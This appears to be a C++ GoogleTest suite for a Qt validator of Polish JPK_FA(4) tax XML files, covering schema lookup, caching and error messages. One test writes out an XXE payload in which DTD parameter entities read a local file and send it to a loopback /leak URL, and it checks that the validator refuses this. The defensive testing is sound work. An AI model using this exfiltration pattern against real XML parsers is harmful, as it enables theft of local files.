#include "support/loopback_server.h"
#include "support/recording_port.h"
#include "support/shipped_schemas.h"
#include "support/temp_home.h"
#include "validate/schema_locator.h"
#include "validate/validator.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <gtest/gtest.h>

namespace {

using Msg = RecordingPort::Message;

const QString kSchemas = QStringLiteral(TAVRIX_SCHEMAS);
const QString kSamples = QStringLiteral(TAVRIX_TEST_DATA "/jpk_fa4");
const QString kData = QStringLiteral(TAVRIX_TEST_DATA "/xml");
const QString kJpkNamespace = QStringLiteral("http://jpk.mf.gov.pl/wzor/2022/02/17/02171/");

// A program folder with the schema beside the program and the catalog in schemas/.
void installSchemas(const TempHome &home)
{
    QFile::copy(kSchemas + QStringLiteral("/Schemat_JPK_FA(4)_v1-0.xsd"),
                home.file(QStringLiteral("Schemat_JPK_FA(4)_v1-0.xsd")));
    QFile::link(kSchemas, home.file(QStringLiteral("schemas")));
}

struct Outcome
{
    bool valid;
    QList<Msg> messages;
};

Outcome validate(const TempHome &home, const QString &file)
{
    RecordingPort port;
    bool valid = false;
    validateFile(&port, home.path(), file, &valid);
    return {valid, port.messages};
}

class Validator : public ::testing::Test
{
protected:
    void SetUp() override
    {
        // nothing cached by an earlier run may stand in for a missing schema
        SchemaLocator::instance().configure({}, cache.path());
    }
    TempHome home;
    TempHome cache;
};

TEST_F(Validator, ValidSamplesConform)
{
    installSchemas(home);
    for (const QString &name : {QStringLiteral("minimal_valid.xml"), QStringLiteral("rich_valid.xml")}) {
        const QString file = kSamples + u'/' + name;
        const Outcome o = validate(home, file);
        EXPECT_TRUE(o.valid) << name.toStdString();
        EXPECT_EQ(o.messages, QList<Msg>({{QStringLiteral("info"), QStringLiteral("Tavrix JPK_FA(4).XML"),
                                           QStringLiteral("Budowa pliku %1 zgodna ze schemą XSD").arg(file)}}))
            << (o.messages.isEmpty() ? std::string() : o.messages.first().text.toStdString());
    }
}

TEST_F(Validator, FirstSchemaErrorWithItsLine)
{
    installSchemas(home);
    struct Case
    {
        const char *file;
        int line;
        const char *element;
    };
    const Case cases[] = {{"invalid_element_order.xml", 31, "P_2A"}, {"invalid_P_12_rate.xml", 67, "P_12"}};
    for (const Case &c : cases) {
        const QString file = kSamples + u'/' + QString::fromLatin1(c.file);
        const Outcome o = validate(home, file);
        EXPECT_FALSE(o.valid);
        ASSERT_EQ(o.messages.size(), 1) << c.file;
        const Msg &m = o.messages.first();
        EXPECT_TRUE(m.caption.startsWith(QStringLiteral("Błąd budowy - ErrorCode: "))) << m.caption.toStdString();
        EXPECT_NE(m.caption, QStringLiteral("Błąd budowy - ErrorCode: 0"));
        const QString prefix = QStringLiteral("Wg ") + home.file(QStringLiteral("Schemat_JPK_FA(4)_v1-0.xsd")) +
                               QStringLiteral("\r\n\r\n");
        EXPECT_TRUE(m.text.startsWith(prefix)) << m.text.toStdString();
        EXPECT_TRUE(m.text.contains(QStringLiteral("\rLine: %1, LinePos: ").arg(c.line))) << m.text.toStdString();
        EXPECT_TRUE(m.text.contains(QString::fromLatin1(c.element))) << m.text.toStdString();
        const QStringList parts = m.text.split(QStringLiteral("\rsrcText: "));
        ASSERT_EQ(parts.size(), 2);
        EXPECT_TRUE(parts.at(1).contains(QStringLiteral("<%1>").arg(QString::fromLatin1(c.element))));
        // the file position points into that line of the file
        const qsizetype at = m.text.indexOf(QStringLiteral("FilePos: "));
        const qint64 pos = m.text.mid(at + 9, m.text.indexOf(u'\r', at) - at - 9).toLongLong();
        const qsizetype col = m.text.indexOf(QStringLiteral("LinePos: "));
        const qint64 column = m.text.mid(col + 9, m.text.indexOf(u',', col) - col - 9).toLongLong();
        QFile f(file);
        ASSERT_TRUE(f.open(QIODevice::ReadOnly));
        const QByteArray bytes = f.readAll();
        EXPECT_EQ(bytes.left(pos - column).count('\n'), c.line - 1);
        EXPECT_TRUE(pos - column == 0 || bytes.at(pos - column - 1) == '\n');
    }
}

TEST_F(Validator, WithoutItsOwnSchemaItSaysWhichOneItUsed)
{
    const ShippedSchemasAway away; // no schema beside the program: the document's own is used
    QFile::link(kSchemas, home.file(QStringLiteral("schemas")));
    const Outcome o = validate(home, kSamples + QStringLiteral("/minimal_valid.xml"));
    EXPECT_TRUE(o.valid);
    ASSERT_EQ(o.messages.size(), 2) << (o.messages.isEmpty() ? std::string() : o.messages.first().text.toStdString());
    EXPECT_TRUE(o.messages.at(1).text.startsWith(QStringLiteral("Sprawdzono według schemy wskazanej w dokumencie: ")))
        << o.messages.at(1).text.toStdString();
}

TEST_F(Validator, AValueHoldingPercentSignsIsShownAsItIs)
{
    installSchemas(home);
    QFile f(kSamples + QStringLiteral("/minimal_valid.xml"));
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    QByteArray bytes = f.readAll();
    ASSERT_TRUE(bytes.contains("<KodWaluty>PLN</KodWaluty>"));
    bytes.replace("<KodWaluty>PLN</KodWaluty>", "<KodWaluty>%2%5</KodWaluty>");
    home.write(QStringLiteral("procenty.xml"), bytes);
    const Outcome o = validate(home, home.file(QStringLiteral("procenty.xml")));
    EXPECT_FALSE(o.valid);
    ASSERT_EQ(o.messages.size(), 1);
    const QString &text = o.messages.first().text;
    EXPECT_TRUE(text.contains(QStringLiteral("'%2%5'"))) << text.toStdString();
    EXPECT_TRUE(text.contains(QStringLiteral("\rLine: 30, LinePos: "))) << text.toStdString();
    EXPECT_TRUE(text.contains(QStringLiteral("srcText: ") + QStringLiteral("    <KodWaluty>%2%5</KodWaluty>")))
        << text.toStdString();
}

TEST_F(Validator, RootThatIsNoDeclarationGetsTwoMessages)
{
    installSchemas(home);
    const Outcome o = validate(home, kData + QStringLiteral("/root_faktura.xml"));
    EXPECT_FALSE(o.valid);
    EXPECT_EQ(o.messages,
              QList<Msg>({{QStringLiteral("info"), QStringLiteral("Tavrix JPK_FA(4).XML"),
                           QStringLiteral("Nie odnaleziono bloku właściwego dla dokumentów klasy deklaracji XML.")},
                          {QStringLiteral("info"), QStringLiteral("Tavrix JPK_FA(4).XML"),
                           QStringLiteral("Dokumnet XML - pusty lub nie udało się go wczytać.")}}));
}

TEST_F(Validator, NotWellFormedOrMissingFile)
{
    installSchemas(home);
    Outcome o = validate(home, kData + QStringLiteral("/not_well_formed.xml"));
    ASSERT_EQ(o.messages.size(), 1);
    const QString text = o.messages.first().text;
    EXPECT_TRUE(text.startsWith(QStringLiteral("Błąd wczytania pliku XML:\r"))) << text.toStdString();
    EXPECT_TRUE(text.endsWith(QStringLiteral("\r\nLine: 4\r\n    <KodFormularza>JPK_FA</KodFormularz>")))
        << text.toStdString();

    o = validate(home, home.file(QStringLiteral("brak.xml")));
    ASSERT_EQ(o.messages.size(), 1);
    EXPECT_TRUE(o.messages.first().text.startsWith(QStringLiteral("Błąd wczytania pliku XML:\r")));
    EXPECT_TRUE(o.messages.first().text.contains(QStringLiteral("brak.xml")));
}

TEST_F(Validator, MissingSchemaWithoutNetworkGivesTheReport)
{
    const ShippedSchemasAway away; // the roads without the schemas shipped with the program
    // no schema beside the program, no catalog, nothing cached, the network switched off
    const Outcome o = validate(home, kSamples + QStringLiteral("/minimal_valid.xml"));
    EXPECT_FALSE(o.valid);
    ASSERT_EQ(o.messages.size(), 1);
    const Msg &m = o.messages.first();
    EXPECT_EQ(m.caption, QStringLiteral("Błąd weryfikatora"));
    const QString address = kJpkNamespace + QStringLiteral("schemat.xsd");
    EXPECT_TRUE(m.text.startsWith(QStringLiteral("<Blad typ=\"Problem z weryfikatorem XSD\">\r<NameSpace>") +
                                  kJpkNamespace + QStringLiteral("</NameSpace>\r<Schema>") + address +
                                  QStringLiteral("</Schema>\r<Komunikat>")))
        << m.text.toStdString();
    EXPECT_TRUE(
        m.text.endsWith(QStringLiteral("</Komunikat>\r</Blad>\r\rSprawdź czy :\r"
                                       "- masz niezbędne do weryfikacji aktywne połączenie z internetem.\r"
                                       "- nie ma problemów ze stroną zawierającą adres wzorców weryfikacji XSD")));
}

TEST_F(Validator, OlderStructureIsCheckedUnderItsOwnNamespace)
{
    installSchemas(home);
    RecordingPort port;
    JpkValidator validator(&port, home.path());
    validator.documentPath = kData + QStringLiteral("/jpk_fa3_header.xml");
    validator.schemaLocation = home.file(QStringLiteral("Schemat_JPK_FA(4)_v1-0.xsd"));
    validator.fromDocument = false;
    EXPECT_FALSE(validator.validate());
    EXPECT_EQ(validator.nameSpace, QStringLiteral("http://jpk.mf.gov.pl/wzor/2019/09/27/09271/"));
    ASSERT_EQ(port.messages.size(), 1);
    EXPECT_EQ(port.messages.first().caption, QStringLiteral("Błąd weryfikatora"));
    EXPECT_TRUE(port.messages.first().text.contains(QStringLiteral("does not match")));
}

TEST_F(Validator, SchemaLocationHints)
{
    struct Case
    {
        const char *file;
        const char *nameSpace;
        const char *schema;
    };
    const Case cases[] = {
        {"xsi_other_namespace.xml", "urn:jpk", "b.xsd"},                           // the cut stops at the underscore
        {"capital_xsd_hint.xml", "urn:dekl", "http://127.0.0.1:9/dir/Schema.XSD"}, // nothing appended
        {"doctype_hint.xml", "urn:wniosek", "wniosek.dtdschemat.xsd"},             // the DOCTYPE comes first
        {"tns_hint.xml", "", "http://example.invalid/wzor/schemat.xsd"},
        {"jpk_fa3_header.xml", "http://jpk.mf.gov.pl/wzor/2019/09/27/09271/",
         "http://jpk.mf.gov.pl/wzor/2019/09/27/09271/schemat.xsd"},
    };
    for (const Case &c : cases) {
        RecordingPort port;
        JpkValidator v(&port, home.path());
        v.documentPath = kData + u'/' + QString::fromLatin1(c.file);
        ASSERT_TRUE(v.prepare()) << c.file;
        EXPECT_EQ(v.nameSpace, QString::fromLatin1(c.nameSpace)) << c.file;
        EXPECT_EQ(v.schemaLocation, QString::fromLatin1(c.schema)) << c.file;
    }
}

TEST(SchemaLocation, Cut)
{
    struct Case
    {
        const char *value;
        const char *expected;
    };
    const Case cases[] = {
        {"ns dir/a_b.xsd", "b.xsd"},
        {"urn:x http://host/dir/Schemat.XSD trailing", "http://host/dir/Schemat.XSD"},
        {"urn:x http://host/wzor/Schemat_JPK_FA(4)_v1-0.xsd", "0.xsd"},
        {"x.xsd", "x.xsd"},
        {"urn:x noschema", "noschema"},
    };
    for (const Case &c : cases)
        EXPECT_EQ(JpkValidator::cutSchemaLocation(QString::fromLatin1(c.value)), QString::fromLatin1(c.expected))
            << c.value;
    EXPECT_EQ(JpkValidator::attributeHint(QStringLiteral("urn:a  b.xsd urn:c d.xsd")),
              QStringLiteral("b.xsd urn:c d.xsd"));
    EXPECT_EQ(JpkValidator::attributeHint(QStringLiteral("only.xsd ")), QStringLiteral("only.xsd "));
}

TEST_F(Validator, SettingsFileKeepsWhatItHeld)
{
    home.write(QStringLiteral("ustawienia.xml"), "<?xml "
                                                 "version=\"1.0\"?>\n<Configuration><Inne>1</"
                                                 "Inne><Form1><FormVersion>7</FormVersion></Form1></Configuration>\n");
    {
        JpkValidator v(nullptr, home.path());
    }
    const QByteArray after = home.read(QStringLiteral("ustawienia.xml"));
    EXPECT_TRUE(after.contains("<Inne>1</Inne>"));
    EXPECT_TRUE(after.contains("<FormVersion>0</FormVersion>"));
    QFile::remove(home.file(QStringLiteral("ustawienia.xml")));
    {
        JpkValidator v(nullptr, home.path());
    }
    EXPECT_TRUE(home.read(QStringLiteral("ustawienia.xml")).contains("<Configuration>"));
}

TEST_F(Validator, SchemaFetchedOverHttpAndImportsFromTheCache)
{
    const ShippedSchemasAway away; // the roads without the schemas shipped with the program
    TempHome served;
    QFile::copy(kSchemas + QStringLiteral("/Schemat_JPK_FA(4)_v1-0.xsd"), served.file(QStringLiteral("jpk_fa4.xsd")));
    LoopbackServer server(served.path());
    ASSERT_GT(server.port(), 0) << "python3 http.server did not start";
    // the imported schemas were downloaded by an earlier run
    const QString etd = QStringLiteral("http://crd.gov.pl/xml/schematy/dziedzinowe/mf/2018/08/24/eD/DefinicjeTypy/");
    QDir().mkpath(cache.path());
    for (const char *name : {"StrukturyDanych_v5-0E.xsd", "ElementarneTypyDanych_v5-0E.xsd", "KodyKrajow_v5-0E.xsd",
                             "KodyUrzedowSkarbowych_v5-0E.xsd"})
        QFile::copy(kSchemas + u'/' + QString::fromLatin1(name),
                    SchemaLocator::instance().cacheFileFor(etd + QString::fromLatin1(name)));

    const QString address = QStringLiteral("http://127.0.0.1:%1/jpk_fa4.xsd").arg(server.port());
    QFile sample(kSamples + QStringLiteral("/minimal_valid.xml"));
    ASSERT_TRUE(sample.open(QIODevice::ReadOnly));
    QByteArray text = sample.readAll();
    const QByteArray hinted =
        QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"") +
        kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + QByteArray("\" xmlns=");
    text.replace("<JPK xmlns=", hinted);
    home.write(QStringLiteral("JPK_FA4.xml"), text);

    const Outcome o = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
    EXPECT_TRUE(o.valid) << (o.messages.isEmpty() ? std::string() : o.messages.first().text.toStdString());
    EXPECT_TRUE(QFile::exists(SchemaLocator::instance().cacheFileFor(address)));

    // a 404 and an https address fail with the report naming the address
    for (const QString &bad : {QStringLiteral("http://127.0.0.1:%1/brak.xsd").arg(server.port()),
                               QStringLiteral("https://127.0.0.1:%1/jpk_fa4.xsd").arg(server.port())}) {
        QByteArray other = text;
        other.replace(address.toUtf8(), bad.toUtf8());
        home.write(QStringLiteral("JPK_FA4.xml"), other);
        const Outcome failed = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
        EXPECT_FALSE(failed.valid);
        ASSERT_EQ(failed.messages.size(), 1);
        EXPECT_EQ(failed.messages.first().caption, QStringLiteral("Błąd weryfikatora"));
        EXPECT_TRUE(
            failed.messages.first().text.contains(QStringLiteral("<Schema>") + bad + QStringLiteral("</Schema>")));
        EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(bad)));
    }
}

} // namespace

namespace {

TEST_F(Validator, AHostileSchemaReadsNothingSendsNothingAndValidatesNothing)
{
    const ShippedSchemasAway away; // the roads without the schemas shipped with the program
    // No schema beside the program: the address comes from the document itself.
    TempHome served;
    home.write(QStringLiteral("secret.txt"), "tajne hasło");
    LoopbackServer server(served.path());
    ASSERT_GT(server.port(), 0) << "python3 http.server did not start";
    const QString port = QString::number(server.port());
    const QByteArray anything =
        "<xs:element name=\"JPK\"><xs:complexType><xs:sequence>"
        "<xs:any processContents=\"skip\" minOccurs=\"0\" maxOccurs=\"unbounded\"/>"
        "</xs:sequence><xs:anyAttribute processContents=\"skip\"/></xs:complexType></xs:element>";
    const QByteArray open = "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\" targetNamespace=\"" +
                            kJpkNamespace.toUtf8() + "\" elementFormDefault=\"qualified\">";
    // a DTD whose parameter entities read a local file and send it out in a second request
    served.write(QStringLiteral("dtd.xsd"),
                 QByteArray("<?xml version=\"1.0\"?>\n<!DOCTYPE xs:schema [\n<!ENTITY % file SYSTEM \"file://" +
                            home.file(QStringLiteral("secret.txt")).toUtf8() +
                            "\">\n<!ENTITY % eval \"<!ENTITY &#x25; leak SYSTEM 'http://127.0.0.1:" + port.toUtf8() +
                            "/leak?%file;'>\">\n%eval;\n%leak;\n]>\n" + open + anything + "</xs:schema>\n"));
    // a schema without a DTD that includes a file that is no schema
    served.write(QStringLiteral("include.xsd"),
                 QByteArray("<?xml version=\"1.0\"?>\n" + open + "<xs:include schemaLocation=\"http://127.0.0.1:" +
                            port.toUtf8() + "/notes.txt\"/>" + anything + "</xs:schema>\n"));
    served.write(QStringLiteral("notes.txt"), "<xs:schema xmlns:xs=\"http://www.w3.org/2001/XMLSchema\"/>");
    // not a schema at all
    served.write(QStringLiteral("page.xsd"), "<html><body>404</body></html>");

    QFile sample(kSamples + QStringLiteral("/minimal_valid.xml"));
    ASSERT_TRUE(sample.open(QIODevice::ReadOnly));
    const QByteArray text = sample.readAll();
    for (const char *name : {"dtd.xsd", "include.xsd", "page.xsd"}) {
        const QString address = server.url(QString::fromLatin1(name));
        QByteArray hinted = text;
        hinted.replace("<JPK xmlns=",
                       QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"" +
                                  kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + "\" xmlns="));
        home.write(QStringLiteral("JPK_FA4.xml"), hinted);
        const Outcome o = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
        EXPECT_FALSE(o.valid) << name;
        ASSERT_FALSE(o.messages.isEmpty()) << name;
        EXPECT_EQ(o.messages.first().caption, QStringLiteral("Błąd weryfikatora")) << name;
        EXPECT_EQ(server.requests().last(), QStringLiteral("/") + QString::fromLatin1(name))
            << name << ": nothing but the schema was asked for";
        if (QByteArray(name) != "include.xsd") { // that one is a schema: its include is what is refused
            EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(address)))
                << name << ": only schemas are cached";
        }
    }
    for (const QString &path : server.requests())
        EXPECT_FALSE(path.startsWith(QStringLiteral("/leak")) || path.startsWith(QStringLiteral("/notes")))
            << path.toStdString();
}

TEST_F(Validator, ADocumentDeclaringEntitiesIsRefusedHonestly)
{
    installSchemas(home);
    home.write(QStringLiteral("ent.xml"),
               "<?xml version=\"1.0\"?>\n<!DOCTYPE JPK [<!ENTITY y \"yyy\">]>\n<JPK>&y;</JPK>\n");
    const Outcome o = validate(home, home.file(QStringLiteral("ent.xml")));
    EXPECT_FALSE(o.valid);
    ASSERT_FALSE(o.messages.isEmpty());
    EXPECT_TRUE(
        o.messages.first().text.contains(QStringLiteral("Plik zawiera deklaracje DTD, których program nie przyjmuje")))
        << o.messages.first().text.toStdString();
}

} // namespace

namespace {

// The document names its schema at an address of the loopback server.
void writeHinted(const TempHome &home, const QString &address)
{
    QFile sample(kSamples + QStringLiteral("/minimal_valid.xml"));
    ASSERT_TRUE(sample.open(QIODevice::ReadOnly));
    QByteArray text = sample.readAll();
    text.replace("<JPK xmlns=",
                 QByteArray("<JPK xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"" +
                            kJpkNamespace.toUtf8() + ' ' + address.toUtf8() + "\" xmlns="));
    home.write(QStringLiteral("JPK_FA4.xml"), text);
}

TEST_F(Validator, AServerThatFailsIsAskedOnceAndOneThatNeverAnswersCanBeLeft)
{
    const ShippedSchemasAway away;
    TempHome served;
    LoopbackServer server(served.path());
    ASSERT_GT(server.port(), 0) << "python3 http.server did not start";

    // a server that hangs up: one request, and the report names the address
    const QString hangup = server.url(QStringLiteral("hangup/jpk.xsd"));
    writeHinted(home, hangup);
    const Outcome o = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
    EXPECT_FALSE(o.valid);
    ASSERT_FALSE(o.messages.isEmpty());
    EXPECT_TRUE(o.messages.first().text.contains(hangup)) << o.messages.first().text.toStdString();
    EXPECT_EQ(server.requests().count(QStringLiteral("/hangup/jpk.xsd")), 1)
        << server.requests().join(u' ').toStdString();
    // asked again within the same command, the address fails at once with the same reason
    const Outcome again = validate(home, home.file(QStringLiteral("JPK_FA4.xml")));
    ASSERT_FALSE(again.messages.isEmpty());
    EXPECT_EQ(again.messages.first().text, o.messages.first().text);
    EXPECT_EQ(server.requests().count(QStringLiteral("/hangup/jpk.xsd")), 1);

    // a server that never answers: "Przerwij" ends the wait, nothing is asked again
    writeHinted(home, server.url(QStringLiteral("silent/jpk.xsd")));
    RecordingPort port;
    port.onProcessEvents = [&] { // "Przerwij" once the server holds the request
        if (server.requests().contains(QStringLiteral("/silent/jpk.xsd")))
            port.requestCancel();
    };
    EXPECT_THROW(validateFile(&port, home.path(), home.file(QStringLiteral("JPK_FA4.xml"))), CommandCancelled);
    EXPECT_EQ(server.requests().count(QStringLiteral("/silent/jpk.xsd")), 1)
        << server.requests().join(u' ').toStdString();
    EXPECT_FALSE(QFile::exists(SchemaLocator::instance().cacheFileFor(server.url(QStringLiteral("silent/jpk.xsd")))));
}

} // namespace
